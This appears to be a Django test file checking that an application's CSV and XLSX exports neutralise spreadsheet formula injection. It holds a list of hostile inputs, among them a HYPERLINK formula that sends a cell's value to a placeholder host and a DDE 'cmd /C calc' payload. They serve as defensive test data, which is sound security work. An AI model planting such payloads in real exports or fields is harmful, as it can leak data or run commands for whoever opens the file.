"""Text a user typed never runs as a formula in any CSV or XLSX export.

The attacker types spreadsheet formulas into the names and descriptions that IK exports;
the auditor opens each real export. CSV cells come out behind an apostrophe, XLSX cells as
quote-prefixed strings, never as formulas; IK reads its own exports back unchanged.
"""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from ik.followups.models import Action, Deviation
from ik.lib.spreadsheet import FORMULA_STARTS, is_formula_like
from ik.org.audit import audit_record
from ik.org.models import Committee
from ik.plans.models import ControlPoint
from ik.systems.models import Competence, CompetenceRole, Criticality, System
from ik.systems.services import register_import, system_update
from ik.test import TEST_SETUP, BaseTestCase

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=2+2",
)


class FormulaInjectionTests(BaseTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        for i, text in enumerate(HOSTILE):
            system = System.objects.create(
                organisation=cls.org,
                name=f"{text} {i}",
                alarm_recipient=text,
                criticality=Criticality.BUSINESS,
                priority=i + 1,
            )
            Competence.objects.create(system=system, person_name=text, role=CompetenceRole.PRIMARY)
        ControlPoint.objects.filter(pk=cls.point.pk).update(question=HOSTILE[0])
        Deviation.objects.filter(pk=cls.deviation.pk).update(description=HOSTILE[1])
        Action.objects.filter(pk=cls.action.pk).update(description=HOSTILE[3])
        Committee.objects.filter(pk=cls.ks.pk).update(name=HOSTILE[2])

    def get(self, name, **kwargs):
        self.client.force_login(self.controller)
        response = self.client.get(reverse(name, kwargs=kwargs))
        assert response.status_code == 200, (name, kwargs)
        body = getattr(response, "streaming_content", None)
        return b"".join(body) if body is not None else response.content

    def csv_cells(self, data):
        text = data.decode("utf-8-sig")
        return [
            cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
        ]

    def assert_csv_inert(self, data, *, expect):
        cells = self.csv_cells(data)
        assert not [c for c in cells if is_formula_like(c)], "a cell would run as a formula"
        for text in expect:
            assert any(c.startswith("'" + text) for c in cells), f"{text!r} missing"

    def xlsx_cells(self, data):
        workbook = load_workbook(io.BytesIO(data))
        return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]

    def assert_xlsx_inert(self, data, *, expect):
        cells = self.xlsx_cells(data)
        assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
        risky = [
            c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)
        ]
        assert all(c.data_type == "s" and c.quotePrefix for c in risky)
        values = {c.value for c in cells}
        for text in expect:
            assert any(isinstance(v, str) and text in v for v in values), f"{text!r} missing"

    def test_the_system_register_and_competence_csv_exports_are_inert(self):
        for name in ("systems:register_export", "systems:competence_export"):
            data = self.get(name, org=self.org.code, fmt="csv")
            self.assert_csv_inert(data, expect=HOSTILE)

    def test_the_system_register_and_competence_xlsx_exports_are_inert(self):
        for name in ("systems:register_export", "systems:competence_export"):
            data = self.get(name, org=self.org.code, fmt="xlsx")
            self.assert_xlsx_inert(data, expect=[t.strip() for t in HOSTILE])

    def names(self):
        # The reader trims surrounding white space, tabs and carriage returns included.
        found = System.objects.filter(organisation=self.org).values_list("name", "alarm_recipient")
        return sorted((name.strip(), recipient.strip()) for name, recipient in found)

    def test_the_register_reads_its_own_hostile_export_back_unchanged(self):
        before = self.names()
        assert ("@SUM(A1:A2) 3", "@SUM(A1:A2)") in before
        for fmt in ("csv", "xlsx"):
            systems = self.get("systems:register_export", org=self.org.code, fmt=fmt)
            competence = self.get("systems:competence_export", org=self.org.code, fmt=fmt)
            register_import(
                organisation=self.org,
                by=self.controller,
                systems_file=systems,
                competence_file=competence,
                replace=True,
            )
            assert self.names() == before, fmt

    def test_the_audit_log_csv_is_inert(self):
        # The actor's own name is the one audit cell that starts with what a user typed.
        self.controller.first_name, self.controller.last_name = HOSTILE[0], ""
        self.controller.save()
        system_update(system=self.system, by=self.controller, name=HOSTILE[3])
        audit_record(
            organisation=self.org, actor=TEST_SETUP, action="x", obj=self.plan, summary=HOSTILE[1]
        )
        data = self.get("accounts:audit_log_csv", org=self.org.code)
        self.assert_csv_inert(data, expect=[HOSTILE[0], HOSTILE[1]])
        assert any(HOSTILE[3] in c for c in self.csv_cells(data))

    def test_the_plan_follow_up_and_overview_workbooks_are_inert(self):
        exports = [
            ("reports:plan_report", {"plan_id": self.plan.public_id, "fmt": "xlsx"}),
            ("reports:followup_report", {"followup_id": self.followup.public_id, "fmt": "xlsx"}),
            ("oversight:overview_report", {"org": self.org.code, "fmt": "xlsx"}),
        ]
        for name, kwargs in exports:
            data = self.get(name, **kwargs)
            self.assert_xlsx_inert(
                data, expect=[HOSTILE[2]] if "overview" in name else [HOSTILE[0]]
            )
